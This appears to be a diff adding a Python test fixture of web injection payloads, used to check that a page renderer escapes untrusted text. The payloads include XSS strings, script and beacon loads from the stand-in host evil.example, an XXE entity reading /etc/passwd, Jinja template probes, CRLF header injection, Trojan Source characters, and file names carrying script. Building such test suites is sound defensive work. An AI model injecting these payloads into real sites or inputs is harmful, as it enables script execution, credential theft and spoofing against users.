@@ -1,0 +1,126 @@
+"""Payloads: texts that try to be more than text where a page shows them.
+
+What one of them would do is seen by its mark: an element, an attribute or an address with `evil`, or a call of `alert`.
+"""
+
+from __future__ import annotations
+
+from collections.abc import Mapping
+
+PAYLOADS: Mapping[str, str] = {
+    # elements
+    "script": "<script>alert(1)</script>",
+    "script in capitals": "<ScRiPt>alert(1)</sCrIpT>",
+    "script from elsewhere": "<script src=//evil.example/x.js></script>",
+    "script that closes one": "</script><script>alert(1)</script>",
+    "script without an end": "<script>alert(1)//",
+    "script in a script's data": '{"a": "</script><script>alert(1)</script>"}',
+    "module": '<script type="module">import "https://evil.example/x.js"</script>',
+    "image": "<img src=x onerror=alert(1)>",
+    "image with slashes": "<img/src=x/onerror=alert(1)>",
+    "image with a line break": "<img\nsrc=x\nonerror=alert(1)>",
+    "image from elsewhere": '<img src="https://evil.example/beacon.png">',
+    "set of images": '<img srcset="https://evil.example/a.png 1x">',
+    "SVG": "<svg onload=alert(1)>",
+    "SVG with a script": "<svg><script>alert(1)</script></svg>",
+    "SVG with a link": '<svg><a xlink:href="javascript:alert(1)"><text y="9">x</text></a></svg>',
+    "SVG animation": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "SVG use": "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg></svg>#x'/></svg>",
+    "MathML": '<math href="javascript:alert(1)">evil</math>',
+    "frame": "<iframe src=javascript:alert(1)></iframe>",
+    "frame with a document": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+    "object": "<object data=https://evil.example/x.swf></object>",
+    "embed": "<embed src=javascript:alert(1)>",
+    "base": '<base href="https://evil.example/">',
+    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+    "link to a stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
+    "style": "<style>@import 'https://evil.example/x.css'; * { display: none }</style>",
+    "style attribute": '<b style="background:url(https://evil.example/x)">evil</b>',
+    "form": '<form action="https://evil.example/"><button>Approve</button></form>',
+    "button of a form": '<button form="evil" formaction="https://evil.example/">x</button>',
+    "input": '"><input name="tree" value="evil">',
+    "video": "<video><source onerror=alert(1)></video>",
+    "audio": "<audio src=x onerror=alert(1)>",
+    "details": "<details open ontoggle=alert(1)>evil</details>",
+    "template": "<template><script>alert(1)</script></template>",
+    "portal": "<portal src=https://evil.example/>",
+    "comment": "<!--><img src=x onerror=alert(1)>-->",
+    "CDATA": "<![CDATA[<img src=x onerror=alert(1)>]]>",
+    "declaration": "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
+    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+    "end of the main part": "</main></body></html><script>alert(1)</script>",
+    # ends of what stands around
+    "end of a text area": "</textarea><script>alert(1)</script>",
+    "end of a title": "</title><script>alert(1)</script>",
+    "end of a pre": "</pre></details><img src=x onerror=alert(1)>",
+    "attribute in double quotes": '" autofocus onfocus=alert(1) evil="',
+    "attribute in single quotes": "' autofocus onfocus=alert(1) evil='",
+    "attribute in back quotes": "` onmouseover=alert(1) evil=`",
+    "attribute without quotes": "x onmouseover=alert(1)",
+    "angle without an end": "<a href='evil",
+    # addresses
+    "javascript address": "javascript:alert(1)",
+    "javascript address with a tab": "java\tscript:alert(1)",
+    "data address": "data:text/html,<script>alert(1)</script>",
+    "data address in base64": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+    "vbscript address": "vbscript:msgbox(1)",
+    "address of another site": "//evil.example/%2e%2e",
+    "markdown link": "[evil](javascript:alert(1))",
+    "markdown image": "![evil](https://evil.example/x.png)",
+    "markdown link with a data address": "[evil](data:text/html;base64,PHNjcmlwdD4=)",
+    "markdown with HTML": "**evil** <b onclick=alert(1)>x</b> <https://evil.example/>",
+    "autolink": "<https://evil.example/?q='onmouseover='alert(1)>",
+    # templates and entities
+    "Jinja expression": "{{ 1111 * 1111 }}",
+    "Jinja reach": "{{ self.__init__.__globals__ }}{{ ''.__class__.__mro__ }}",
+    "Jinja statement": "{% for each in range(99999999) %}evil{% endfor %}",
+    "Jinja comment and raw": "{# evil #}{% raw %}{% endraw %}",
+    "JavaScript template": "${alert(1)} `${1111*1111}`",
+    "format string": "{0.__class__} {frame.form_token} %s %n %(evil)s",
+    "entity": "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "entity without an end": "&#60img src=x onerror=alert(1)&#62",
+    "entities as numbers": "&#x3c;img src=x onerror=alert(1)&#x3e;",
+    "double escape": "&amp;lt;script&amp;gt;",
+    "percent signs": "%3Cscript%3Ealert(1)%3C/script%3E",
+    "JSON escapes": "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
+    # encodings and characters that hide
+    "UTF-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
+    "full width": "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
+    "long s": "<\u017fcript>alert(1)</\u017fcript>",
+    "bidirectional override": "evil\u202egnp.exe\u202c",
+    "bidirectional isolate": "\u2066evil\u2069 \u2067x\u2069",
+    "Trojan Source": "/*\u202e } \u2066if (evil)\u2069 \u2066 begin */",
+    "right to left": "\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627 evil",
+    "zero width": "e\u200bv\u200ci\u200dl\u2060\ufeff",
+    "soft hyphen": "e\u00advil",
+    "tag characters": "evil\U000e0065\U000e0076\U000e0069\U000e006c",
+    "homoglyph": "\u0430pprove ev\u0456l",
+    "combining marks": "e\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308v\u0336i\u0336l",
+    "private use": "evil \ue000\uf8ff",
+    "line separators": "evil\u2028alert(1)\u2029",
+    "ANSI": "\x1b[2J\x1b[31mevil\x1b]8;;https://evil.example\x1b\\x\x1b]8;;\x1b\\",
+    "control characters": "evil\x07\x08\x0c\x7f\x9b31m",
+    "carriage return": "evil\rgood",
+    "event stream": "evil\n\nid: 999999\nevent: news\ndata: {}\n\n",
+    "headers": "evil\r\nSet-Cookie: x=1\r\n\r\n<script>alert(1)</script>",
+    "CSS": "} body { background: url(//evil.example/x) } /*",
+    "very long": "evil" * 400,
+    "very deep": "<b>" * 300,
+    "one long word": "<" * 900,
+}
+"""Each has a name that says what it tries to be."""
+NOT_SHOWN_RAW = (
+    "\x00\x1b\x07\x08\x0c\x7f\x9b\u202e\u2066\u2067\u200b\u200c\u200d\u2060\ufeff\u00ad\u2028\u2029\U000e0065"
+)
+"""What a page contains of these is shown as an escape."""
+FILE_NAMES = (
+    "<img src=x onerror=alert(1)>.txt",
+    "'><script>alert(1)<!-- .txt",
+    "' onmouseover='alert(1)' x='.txt",
+    "&lt;b&gt;&#60;.txt",
+    "[evil](evil.example).txt",
+    "`$alert(1)`.txt",
+    "\u0430pprove.txt",
+    "x" * 200 + ".txt",
+)
+"""Names that a plan may have; what Windows could not hold is refused before it reaches a page."""
